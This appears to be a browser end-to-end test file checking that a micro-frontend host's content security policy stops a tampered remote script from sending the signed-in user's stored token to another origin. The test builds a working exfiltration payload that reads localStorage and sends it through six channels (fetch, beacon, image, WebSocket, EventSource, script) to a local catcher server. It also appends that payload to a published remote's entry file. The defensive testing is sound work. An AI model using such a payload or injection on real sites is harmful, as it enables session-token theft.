// Touches server/src/platform/http, tools/ship
import { appendFileSync, cpSync, mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { RunningServer } from '../tools/bench/RunningServer.ts'
import { folderOf } from '../tools/bundler/workspace.ts'
import { readBuiltRemote } from '../tools/ship/BuiltRemote.ts'
import { RemoteFolder } from '../tools/ship/RemoteFolder.ts'
import { untilLoaded } from './product/lists.ts'
import { listOf } from './product/remoteLists.ts'
import { expect, test as base } from './test.ts'

const remote = 'content'

/** The server to which the script sends what it took, and the calls received there. */
type Thief = { server: Server; origin: string; calls: string[] }

const startThief = async (): Promise<Thief> => {
  const calls: string[] = []
  const server = createServer((request, response) => {
    calls.push(request.url ?? '')
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('thanks')
  })
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
  return { server, calls, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
}

/** Every way for a script to send something, with the token of the signed-in user. */
const theft = (origin: string): string => `
;(async () => {
  const words = new URLSearchParams(Object.entries(localStorage)).toString()
  const page = document.documentElement.dataset
  page.sent = await fetch('${origin}/fetch?' + words, { mode: 'no-cors' }).then(() => 'yes', () => 'refused')
  navigator.sendBeacon('${origin}/beacon', words)
  new Image().src = '${origin}/image?' + words
  try { new WebSocket('${origin.replace('http', 'ws')}/socket?' + words) } catch {}
  new EventSource('${origin}/events?' + words)
  document.head.append(Object.assign(document.createElement('script'), { src: '${origin}/script?' + words }))
})()`

const test = base.extend<object, { shipped: { server: RunningServer; thief: Thief } }>({
  shipped: [
    async ({ product }, use) => {
      const folder = mkdtempSync(join(tmpdir(), 'vitrine-theft-'))
      const thief = await startThief()
      cpSync(join(folderOf(remote), 'dist'), join(folder, 'dist'), { recursive: true })
      const build = readBuiltRemote(remote, join(folder, 'dist'))
      const entry = build.manifest.metaData.remoteEntry.name
      for (const twin of ['.br', '.gz']) rmSync(join(folder, 'dist', entry + twin), { force: true })
      appendFileSync(join(folder, 'dist', entry), theft(thief.origin))
      // as anyone with write access to the folder would: with matching hashes, and past the gate
      await new RemoteFolder(join(folder, 'remotes', remote)).publish({ ...build, buildId: 'theft' }, `/remotes/${remote}/mf-manifest.json`)
      const env = { ...product.settings, VITRINE_REMOTES: join(folder, 'remotes'), VITRINE_WORK: 'off' }
      const server = await RunningServer.start({ dataFolder: product.settings['VITRINE_DATA'] ?? '', demoSize: 0, env })
      await use({ server, thief })
      await server.stop()
      thief.server.close()
      thief.server.closeAllConnections()
      rmSync(folder, { recursive: true, force: true })
    },
    { scope: 'worker', timeout: 120_000 },
  ],
  baseURL: async ({ shipped }, use) => use(shipped.server.url),
  storageState: async ({ shipped, account, sessionOf }, use) => {
    const localStorage = Object.entries(await sessionOf(account)).map(([name, value]) => ({ name, value }))
    await use({ cookies: [], origins: [{ origin: shipped.server.url, localStorage }] })
  },
})

// the browser's messages about each of them, which are the point of the test
test.use({ expectedComplaints: { text: /content security policy|Refused to|Failed to load resource/i, where: /^/ } })

test("NET-07 a script of a remote that sends the stored token to another origin is stopped by the page's policy, and the registry says whose it is", async ({
  page,
  request,
  shipped: { thief },
}) => {
  await page.addInitScript(() => {
    const refused: string[] = []
    Object.assign(window, { refused })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => refused.push(`${effectiveDirective} ${blockedURI}`))
  })
  // the host's operator is informed: it counts as a fault of the build, and is in the log
  const reported = page.waitForRequest((one) => one.postData()?.includes(`The page's policy stopped a request of connect-src`) ?? false)
  await page.goto('/reviews')
  // the remote works: the script did run
  await untilLoaded(page, listOf(remote).title)
  await expect(page.locator('html')).toHaveAttribute('data-sent', 'refused')
  const kinds = { fetch: 'connect-src', beacon: 'connect-src', image: 'img-src', socket: 'connect-src', events: 'connect-src', script: 'script-src-elem' }
  const refused = () =>
    page.evaluate(() =>
      (window as unknown as { refused: string[] }).refused.map((line) => line.split('?')[0]!.replace(/^(\S+) \w+:[/][/][^/]+[/]/, '$1 ')).sort(),
    )
  await expect.poll(refused).toEqual(
    Object.entries(kinds)
      .map(([path, directive]) => `${directive} ${path}`)
      .sort(),
  )
  expect(thief.calls).toEqual([])
  await reported
  const { remotes } = (await (await request.get('/remotes.json')).json()) as { remotes: { id: string; owner?: string; version?: string; since?: string }[] }
  expect(remotes.find(({ id }) => id === remote)).toMatchObject({
    owner: 'Content team <content@vitrine.example>',
    version: '1.0.0',
    since: expect.stringMatching(/^\d{4}-/),
  })
})
